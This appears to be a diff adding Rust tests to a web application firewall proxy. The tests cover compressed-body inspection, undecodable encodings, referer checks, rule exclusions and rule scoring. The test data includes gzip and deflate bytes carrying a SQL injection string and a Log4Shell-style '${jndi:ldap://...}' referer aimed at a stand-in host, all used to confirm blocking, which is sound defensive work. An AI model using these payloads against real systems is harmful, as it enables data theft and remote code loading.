@@ -335,3 +335,156 @@ fn secrets_are_masked() {
     let line = proxy.world.lines.borrow()[0].clone();
     assert!(line.contains("\"snippet\":\"***\"") && !line.contains("password"), "{line}");
 }
+
+/// `q=` and [`SQLI`], made by another library: gzip, its second member behind a harmless one and with every optional
+/// field in its header, zlib, bare deflate; and gzip of 20,000 letters before it.
+const GZIP: &[u8] = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\x03\x2b\xb4\x35\x54\x57\x28\xcd\xcb\xcc\xcf\x53\x28\x4e\xcd\x49\x4d\x2e\x51\x28\x48\x2c\x2e\x2e\xcf\x2f\x4a\x51\x48\x2b\xca\xcf\x55\x28\x2d\x4e\x2d\x2a\xd6\xd5\x05\x00\x17\xdf\xb8\x2d\x27\x00\x00\x00";
+const MEMBERS: &[u8] = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\x03\x2b\xb4\x2d\x4e\x4d\x2c\x29\x56\x03\x00\x85\xf2\x75\x16\x08\x00\x00\x00\x1f\x8b\x08\x1e\x00\x00\x00\x00\x02\x03\x03\x00\x61\x62\x63\x6e\x61\x6d\x65\x00\x6e\x6f\x74\x65\x00\x63\x63\x2b\xb4\x35\x54\x57\x28\xcd\xcb\xcc\xcf\x53\x28\x4e\xcd\x49\x4d\x2e\x51\x28\x48\x2c\x2e\x2e\xcf\x2f\x4a\x51\x48\x2b\xca\xcf\x55\x28\x2d\x4e\x2d\x2a\xd6\xd5\x05\x00\x17\xdf\xb8\x2d\x27\x00\x00\x00";
+const ZLIB: &[u8] = b"\x78\x9c\x2b\xb4\x35\x54\x57\x28\xcd\xcb\xcc\xcf\x53\x28\x4e\xcd\x49\x4d\x2e\x51\x28\x48\x2c\x2e\x2e\xcf\x2f\x4a\x51\x48\x2b\xca\xcf\x55\x28\x2d\x4e\x2d\x2a\xd6\xd5\x05\x00\x13\x1c\x0e\x03";
+const DEFLATE: &[u8] = b"\x2b\xb4\x35\x54\x57\x28\xcd\xcb\xcc\xcf\x53\x28\x4e\xcd\x49\x4d\x2e\x51\x28\x48\x2c\x2e\x2e\xcf\x2f\x4a\x51\x48\x2b\xca\xcf\x55\x28\x2d\x4e\x2d\x2a\xd6\xd5\x05\x00";
+const LONG: &[u8] = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\x03\xed\xc1\xb1\x0d\x83\x30\x10\x00\xc0\x55\xbe\x4b\x45\x91\x01\x32\x8c\x45\x8c\x14\x09\x6c\xe2\x8f\xc5\xfa\x59\x83\xe2\xee\x4a\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\xe0\x0e\xbe\xaf\xe7\x23\x66\xfb\xf4\x16\x59\xf7\xba\xfe\xe2\x2c\x99\x57\x1f\xef\xd8\x46\x3f\x62\x66\x1d\xb9\x2c\x7f\x27\x20\x2b\x6a\x47\x4e\x00\x00";
+
+#[test]
+fn compressed_bodies_are_inspected() {
+    let proxy = Proxy::new("");
+    let form = ("content-type", "application/x-www-form-urlencoded");
+    let gzip_and_deflate =
+        [("gzip", GZIP), ("x-GZIP", GZIP), ("gzip", MEMBERS), ("deflate", ZLIB), ("deflate", DEFLATE), ("gzip", LONG)];
+    for (encoding, body) in gzip_and_deflate {
+        for size in [1, 1000] {
+            let action = proxy.post(&[form, ("content-encoding", encoding)], body, size);
+            assert!(reply(action).details.starts_with("backstop{sqli:"), "{encoding}, chunks of {size}");
+        }
+        assert_eq!(proxy.post(&[form], body, 1000), Action::Continue, "{encoding}, but nothing says so");
+    }
+    let short = Proxy::new("body: {inspect: 10000}");
+    assert_eq!(short.post(&[form, ("content-encoding", "gzip")], LONG, 1000), Action::Continue, "past the limit");
+    // A body that breaks off: what there is of it.
+    let torn = GZIP.get(..GZIP.len() - 10).unwrap();
+    assert!(matches!(proxy.post(&[form, ("content-encoding", "gzip")], torn, 1000), Action::Deny(_)));
+    assert_eq!(proxy.counted("backstop_bodies_encoded"), 0);
+}
+
+#[test]
+fn a_body_that_cannot_be_read_passes_or_not() {
+    let attack = format!("q={}", SQLI.replace(' ', "+"));
+    let cases: &[(&str, &[u8])] = &[
+        ("br", b"\x0b\x02\x80abc\x03"),
+        ("zstd", b"x"),
+        ("gzip, gzip", GZIP),
+        ("gzip", b"no gzip"),
+        ("deflate", b"\xff\xff"),
+    ];
+    for (encoding, body) in cases {
+        let proxy = Proxy::new("");
+        assert_eq!(proxy.post(&[("content-encoding", *encoding)], body, 100), Action::Continue, "{encoding}");
+        assert_eq!(proxy.counted("backstop_bodies_encoded"), 1, "{encoding}");
+        let lies = proxy.post(&[("content-encoding", *encoding)], attack.as_bytes(), 100);
+        assert!(matches!(lies, Action::Deny(_)), "{encoding} that is none");
+        let deny = Proxy::new("body: {encoded: deny}");
+        let reply = reply(deny.post(&[("content-encoding", *encoding)], body, 100));
+        assert_eq!((reply.status, reply.details.as_str()), (415, "backstop{body:encoded}"));
+        let detect = Proxy::new("mode: detect\nbody: {paths: [{prefix: /orders, encoded: deny}]}");
+        assert_eq!(detect.post(&[("content-encoding", *encoding)], body, 100), Action::Continue);
+        assert_eq!(detect.counted("backstop_requests_detected"), 1);
+    }
+    let identity = Proxy::new("body: {encoded: deny}");
+    assert_eq!(identity.post(&[("content-encoding", "identity")], b"q=1", 100), Action::Continue);
+}
+
+#[test]
+fn the_address_of_a_page_does_not_lose_its_images() {
+    let page = format!("https://tickets.example{}", query(SQLI));
+    let proxy = Proxy::new("");
+    assert_eq!(proxy.get("/logo.png", &[("referer", &page)]), Action::Continue);
+    assert!(proxy.counted("backstop_findings_sqli") > 0, "it is reported");
+    assert_eq!(proxy.counted("backstop_requests_passed"), 1);
+    let twice = reply(proxy.get(&query(SQLI), &[("referer", &page)]));
+    assert!(twice.details.starts_with("backstop{sqli:"), "the same elsewhere counts");
+    assert!(matches!(proxy.get("/", &[("referer", SQLI)]), Action::Deny(_)), "that is no address");
+    let lookup = "https://a.example/${jndi:ldap://b.example/c}";
+    assert!(matches!(proxy.get("/", &[("referer", lookup)]), Action::Deny(_)), "harms whoever logs it");
+    let block = Proxy::new("rules: {referer: block}");
+    assert!(matches!(block.get("/logo.png", &[("referer", &page)]), Action::Deny(_)));
+}
+
+#[test]
+fn exclusions_are_counted_by_name_and_when_they_have_ended() {
+    let config = "exclusions: [{rules: ['sqli-*'], targets: ['query:*q'], reason: x, until: 2027-03-31, name: query-editor}, \
+                  {rules: ['xss-*'], reason: never matches}]";
+    let proxy = Proxy::new(config);
+    assert_eq!(proxy.get(&query(SQLI), &[]), Action::Continue);
+    let spared = proxy.counted("backstop_exclusion_matches_query_editor");
+    assert!(spared > 0 && spared == proxy.counted("backstop_findings_excluded"));
+    assert_eq!(proxy.counted("backstop_exclusion_matches_1"), 0);
+    assert_eq!(proxy.counted("backstop_exclusions_expired"), 0);
+    proxy.world.unix.set(1_806_537_600_000_000_000);
+    assert!(matches!(proxy.get(&query(SQLI), &[]), Action::Deny(_)));
+    assert!(proxy.counted("backstop_exclusions_expired") > 0, "one that would have matched had it not ended");
+    assert_eq!(proxy.engine.expired_exclusions(1_806_537_600), 1);
+    assert_eq!(proxy.engine.expired_exclusions(1_790_000_000), 0);
+    assert_eq!(proxy.counted("backstop_exclusion_matches_query_editor"), spared);
+}
+
+/// Rules for made-up words, so that the score is that of the words and of nothing else.
+fn words() -> String {
+    let rule = |word: &str, severity: &str, level: u8| {
+        format!(
+            "{{id: sqli-{word}, severity: {severity}, level: {level}, targets: [query, form, header], transforms: [lowercase], \
+             match: {{words: [{word}]}}, why: a test, hits: [a {word} b], passes: [none]}}"
+        )
+    };
+    let rules = [
+        rule("zwei", "notice", 1),
+        rule("drei", "warning", 1),
+        rule("vier", "error", 1),
+        rule("fuenf", "critical", 1),
+        rule("streng", "critical", 2),
+    ];
+    format!("rules: {{custom: [{}]}}\n", rules.join(", "))
+}
+
+#[test]
+fn weak_signs_add_up_and_strong_ones_block_alone() {
+    let proxy = Proxy::new(&words());
+    let cases = [
+        ("/?a=zwei", 2, false),
+        ("/?a=vier", 4, false),
+        ("/?a=zwei&b=zwei&c=zwei", 2, false),
+        ("/?a=zwei&b=drei", 5, true),
+        ("/?a=zwei+drei", 5, true),
+        ("/?a=fuenf", 5, true),
+        ("/?a=streng", 0, false),
+    ];
+    for (path, score, refused) in cases {
+        proxy.world.notes.borrow_mut().clear();
+        assert_eq!(matches!(proxy.get(path, &[]), Action::Deny(_)), refused, "{path}");
+        let noted = proxy.note("score");
+        assert_eq!(if noted.is_empty() { "0" } else { &noted }, score.to_string(), "{path}");
+    }
+    assert_eq!(proxy.get("/", &[("x-note", "drei")]), Action::Continue);
+    // Head and body together.
+    let (mut transaction, _) = proxy.begin("POST", "/?a=zwei", &[], false);
+    proxy.world.body.replace(b"b=drei".to_vec());
+    let refused = reply(transaction.on_request_body(6, true, &proxy.world));
+    assert_eq!(refused.details, "backstop{sqli:sqli-drei}", "the weightiest is blamed");
+    let patient = Proxy::new(&format!("{}threshold: 8", words()));
+    assert_eq!(patient.get("/?a=fuenf+zwei", &[]), Action::Continue);
+    assert!(matches!(patient.get("/?a=fuenf+drei", &[]), Action::Deny(_)));
+}
+
+#[test]
+fn rules_above_the_level_only_report() {
+    let quiet = Proxy::new(&words());
+    assert_eq!(quiet.get("/?a=streng", &[]), Action::Continue);
+    assert_eq!(quiet.counted("backstop_findings_sqli"), 0, "detectLevel is level unless it says otherwise");
+    let detect = Proxy::new(&format!("{}detectLevel: 2", words()));
+    assert_eq!(detect.get("/?a=streng", &[]), Action::Continue);
+    assert_eq!(detect.counted("backstop_findings_sqli"), 1);
+    assert_eq!(detect.note("score"), "0");
+    let line = detect.world.lines.borrow()[0].clone();
+    assert!(line.contains("sqli-streng") && line.contains("\"blocked\":false"), "{line}");
+    assert_eq!(detect.get("/?a=streng+drei", &[]), Action::Continue, "it adds nothing to others");
+    let level = Proxy::new(&format!("{}level: 2", words()));
+    assert_eq!(reply(level.get("/?a=streng", &[])).details, "backstop{sqli:sqli-streng}");
+}
